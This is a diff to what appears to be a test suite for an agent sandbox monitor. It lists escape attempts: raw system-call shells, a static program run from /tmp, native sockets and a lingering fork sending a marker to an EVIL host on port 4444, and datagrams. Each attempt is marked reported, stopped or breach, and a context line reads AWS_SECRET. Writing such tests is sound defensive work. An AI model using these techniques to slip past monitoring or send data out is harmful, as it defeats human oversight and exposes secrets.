@@ -352,15 +352,18 @@ won = opened >= 0 and b'AWS_SECRET' in os.read(opened, 1 << 16)
 
 # What native code does past the library. It gets through, and the agent finds what stays for some milliseconds.
 NATIVE = [
-    case("native-exec", REPORTED, "a shell, by a system call of one's own; it is still there at the end", """
-won = os.read(native_exec(['/bin/sh', '-c', 'echo pwned; kill -STOP $$']), 10) == b'pwned\\n'
-""", rule="process.shells"),
+    # A look may come in between and end the command before it has said a word: it is tried until it gets that far.
+    case("native-exec", REPORTED, "a shell, by a system call of one's own; it is still there at the end",
+         "won = until(lambda: os.read(native_exec(['/bin/sh', '-c', 'echo pwned; kill -STOP $$']), 10) == b'pwned\\n')",
+         rule="process.shells"),
     case("native-exec-that-takes-long", STOPPED, "the same with a command that takes three seconds",
          "won = os.read(native_exec(['/bin/sh', '-c', '/bin/sleep 3; echo pwned']), 10) == b'pwned\\n'", rule="process.shells"),
     case("native-exec-that-is-quick", BREACH, "the same with a command that takes a millisecond",
-         "won = os.read(native_exec(SHELL), 10) == b'pwned\\n'"),
-    case("native-exec-static", REPORTED, "a static program in /tmp, started by a system call of one's own",
-         "won = os.read(native_exec([write('/tmp/stays', STATIC_STAYS)]), 10) == b'pwned'", rule="process.from_writable"),
+         "won = until(lambda: os.read(native_exec(SHELL), 10) == b'pwned\\n')"),
+    case("native-exec-static", REPORTED, "a static program in /tmp, started by a system call of one's own", """
+program = write('/tmp/stays', STATIC_STAYS)
+won = until(lambda: os.read(native_exec([program]), 10) == b'pwned')
+""", rule="process.from_writable"),
     case("native-connection", REPORTED, "a connection by a system call of one's own", """
 call, number = native_socket((EVIL, 4444))
 os.write(number, mark.encode())
@@ -370,11 +373,14 @@ call, number = native_socket((EVIL, 4444))
 os.write(number, mark.encode()); os.close(number)
 """, rule="egress.allow"),
     case("native-connection-of-a-fork", REPORTED, "the same by a fork that stays", """
-reader, writer = os.pipe()
-if os.fork() == 0:
-    call, number = native_socket((EVIL, 4444))
-    os.write(number, mark.encode()); os.write(writer, b'sent'); time.sleep(30); os._exit(0)
-os.read(reader, 4)
+def work():
+    reader, writer = os.pipe()
+    if os.fork() == 0:
+        call, number = native_socket((EVIL, 4444))
+        os.write(number, mark.encode()); os.write(writer, b'sent'); time.sleep(30); os._exit(0)
+    os.close(writer)
+    return os.read(reader, 4) == b'sent'
+until(work)
 """, rule="egress.allow"),
     case("native-datagram", BREACH, "a datagram by a system call of one's own: it leaves nothing behind", """
 call = native()
